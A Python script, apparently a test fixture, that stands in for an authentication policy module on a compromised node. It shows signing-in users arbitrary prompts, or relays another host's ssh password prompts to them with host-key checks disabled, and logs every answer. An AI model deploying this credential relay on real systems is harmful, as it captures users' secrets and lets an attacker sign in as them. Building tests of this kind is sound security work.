#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""In the place of playpen-policy on a node whose root is hostile: shows whoever
signs in what `question` says, or, when there is `victim`, the prompts of that
other node, which gets the answers. Everything is written to `story`."""

import os
import pathlib
import re
import socket
import struct
import subprocess

HERE = pathlib.Path("/hostile")
START, REPLY, PROMPT, RESULT = 1, 2, 17, 18
AUTHENTICATE = 1
SUCCESS, MAXTRIES = 0, 11
ASK = """#!/bin/sh
exec /usr/bin/python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect("/hostile/relay")
s.sendall(sys.argv[1].encode())
s.shutdown(socket.SHUT_WR)
print(s.makefile().read())
' "$1"
"""


def receive(module):
    """A frame's type and fields, by tag."""
    (length,) = struct.unpack(">I", module.recv(4, socket.MSG_WAITALL))
    body = module.recv(length, socket.MSG_WAITALL)
    (kind,), fields, at = struct.unpack_from(">H", body), {}, 2
    while at < length:
        tag, size = struct.unpack_from(">HI", body, at)
        fields[tag] = body[at + 6 : at + 6 + size]
        at += 6 + size
    return kind, fields


def send(module, kind, *fields):
    body = struct.pack(">H", kind)
    for tag, data in enumerate(fields, 1):
        body += struct.pack(">HI", tag, len(data)) + data
    module.sendall(struct.pack(">I", len(body)) + body)


def tell(line):
    with open(HERE / "story", "a", encoding="utf-8") as story:
        story.write(line + "\n")


def ask(module, question):
    tell("asked " + question)
    send(module, PROMPT, question.encode(), b"\0")
    _, fields = receive(module)
    answer = fields.get(1, b"").decode()
    tell("answered " + answer)
    return answer


def relay(module, victim):
    """Signs in there at the same time."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(HERE / "relay"))
    listener.listen()
    (HERE / "ask").write_text(ASK)
    (HERE / "ask").chmod(0o755)
    environment = {
        "PATH": os.defpath, "SSH_ASKPASS": str(HERE / "ask"), "SSH_ASKPASS_REQUIRE": "force",
    }
    options = ["-oStrictHostKeyChecking=no", "-oUserKnownHostsFile=/dev/null"]
    with subprocess.Popen(
        ["/usr/bin/ssh", "-F", "/dev/null", *options, victim, "echo", "i-am-in"],
        env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL, text=True,
    ) as ssh:
        listener.settimeout(0.2)
        while ssh.poll() is None:
            try:
                asker, _ = listener.accept()
            except TimeoutError:
                continue
            question = asker.makefile().read()
            answer = ask(module, re.sub(r"^\(.*?\) ", "", question))
            asker.sendall(answer.encode())
            asker.close()
        tell("got " + ssh.stdout.read().strip())


def main():
    module = socket.socket(fileno=3)
    _, start = receive(module)
    if start[2] == struct.pack(">q", AUTHENTICATE):
        if (HERE / "victim").exists():
            relay(module, (HERE / "victim").read_text().strip())
        else:
            ask(module, (HERE / "question").read_text())
        send(module, RESULT, struct.pack(">q", MAXTRIES))
    else:
        send(module, RESULT, struct.pack(">q", SUCCESS))


main()
